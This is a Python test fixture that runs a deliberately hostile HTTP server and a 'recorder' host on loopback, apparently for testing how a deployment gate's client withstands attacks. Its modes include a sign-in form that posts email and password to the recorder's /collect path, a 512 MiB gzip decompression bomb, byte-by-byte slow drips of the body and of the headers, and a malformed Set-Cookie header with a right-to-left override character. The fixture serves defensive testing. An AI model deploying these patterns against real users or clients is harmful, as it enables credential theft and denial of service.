"""A hostile deployment target on loopback, built to turn the gate against what it protects,
and a recorder standing in for another host that collects whatever reaches it.

Modes, each on its own path of one real HTTP server:
- ``/login``: a login page whose form posts to the recorder (another origin);
- ``/bomb``: a gzip bomb, a few hundred KB that unpack to ``BOMB_MB`` MiB;
- ``/packed``: an honest gzip answer, ``PACKED`` unpacked;
- ``/drip``: headers at once, then the body one byte every ``drip_s`` seconds;
- ``/drip-headers``: the status line and headers themselves one byte at a time;
- ``/odd``: a health answer whose ``Set-Cookie`` name holds bytes that are not ASCII.
"""

from __future__ import annotations

import gzip
import threading
import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

BOMB_MB = 512
# An honest compressed answer: what it unpacks to, under any cap.
PACKED = bytes(range(256)) * 4096 + bytes(1024 * 1024) + b"the end"


@cache
def gzip_bomb() -> bytes:
    """``BOMB_MB`` MiB of zeros, gzip-compressed (about 510 KB)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    zeros = bytes(1024 * 1024)
    return b"".join(packer.compress(zeros) for _ in range(BOMB_MB)) + packer.flush()


@dataclass
class Seen:
    """A request as it reached a server: method, path, headers and body."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes

    def holds(self, forms: set[str]) -> bool:
        """Whether any of ``forms`` is anywhere in the request."""
        text = " ".join([self.path, *self.headers.values()]) + self.body.decode("latin-1")
        return any(form in text for form in forms) or any(
            form.encode() in self.body for form in forms
        )


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64


@dataclass
class Hostile:
    """The running servers: the hostile target, the recorder, and what each saw."""

    url: str
    recorder_url: str
    seen: list[Seen] = field(default_factory=list)  # at the target
    recorded: list[Seen] = field(default_factory=list)  # at the recorder
    sent: dict[str, int] = field(default_factory=dict)  # bytes of each mode's answer sent
    drip_s: float = 1.0

    def count(self, path: str) -> int:
        return sum(1 for s in self.seen if s.path.split("?")[0] == path)


def _handler(hostile: Hostile, recorder: bool) -> type[BaseHTTPRequestHandler]:
    lock = threading.Lock()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: object) -> None:
            pass

        def _seen(self) -> Seen:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            seen = Seen(self.command, self.path, dict(self.headers.items()), body)
            with lock:
                (hostile.recorded if recorder else hostile.seen).append(seen)
            return seen

        def do_GET(self) -> None:
            seen = self._seen()
            if recorder:
                self._answer(200, b"recorded", "text/plain")
                return
            path = seen.path.split("?")[0]
            mode = getattr(self, f"_mode_{path.strip('/').replace('-', '_')}", None)
            if mode is None:
                self._answer(404, b"not found", "text/plain")
            else:
                mode()

        do_POST = do_GET

        def _answer(self, status: int, body: bytes, kind: str, *extra: tuple[str, str]) -> None:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            for name, value in extra:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _mode_login(self) -> None:
            page = (
                "<!doctype html><title>Sign in</title>"
                f'<form method="post" action="{hostile.recorder_url}/collect">'
                '<input type="email" name="email"><input type="password" name="password">'
                '<button type="submit">Sign in</button></form>'
            )
            self._answer(200, page.encode(), "text/html; charset=utf-8")

        def _mode_bomb(self) -> None:
            bomb = gzip_bomb()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(bomb)))
            self.end_headers()
            self._drip(bomb, "bomb", 64 * 1024, 0.0)

        def _mode_packed(self) -> None:
            packed = gzip.compress(PACKED, 6)
            self._answer(200, packed, "application/octet-stream", ("Content-Encoding", "gzip"))

        def _mode_drip(self) -> None:
            body = b'{"status": "ok", "version": "1.0.0"}' * 100
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self._drip(body, "drip", 1, hostile.drip_s)

        def _mode_drip_headers(self) -> None:
            head = (
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n" + b"X-Pad: " + (b"a" * 200)
            )
            self._drip(head, "drip-headers", 1, hostile.drip_s)

        def _mode_odd(self) -> None:
            # A cookie name with a right-to-left override, in UTF-8, written raw as a broken
            # or hostile server would (no RFC lets a cookie name hold it).
            body = b'{"status": "down", "version": "1.0.0"}'
            head = (
                b"HTTP/1.1 503 Service Unavailable\r\nContent-Type: application/json\r\n"
                b"Set-Cookie: sess\xe2\x80\xae=1; Path=/\r\n"
                b"X-Note: caf\xc3\xa9 \xff\r\n"
                b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n"
            )
            self.wfile.write(head + body)

        def _drip(self, data: bytes, mode: str, size: int, pause: float) -> None:
            try:
                for start in range(0, len(data), size):
                    self.wfile.write(data[start : start + size])
                    self.wfile.flush()
                    with lock:
                        hostile.sent[mode] = hostile.sent.get(mode, 0) + size
                    if pause:
                        time.sleep(pause)
            except OSError:  # the client gave up: what the gate should do
                self.close_connection = True

    return Handler


@contextmanager
def hostile_target(drip_s: float = 1.0) -> Iterator[Hostile]:
    """The hostile target and the recorder, on free loopback ports, for as long as needed."""
    hostile = Hostile("", "", drip_s=drip_s)
    target = _Server(("127.0.0.1", 0), _handler(hostile, recorder=False))
    recorder = _Server(("127.0.0.1", 0), _handler(hostile, recorder=True))
    hostile.url = f"http://127.0.0.1:{target.server_address[1]}"
    hostile.recorder_url = f"http://127.0.0.1:{recorder.server_address[1]}"
    threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in (target, recorder)]
    for thread in threads:
        thread.start()
    try:
        yield hostile
    finally:
        for server in (target, recorder):
            server.shutdown()
            server.server_close()
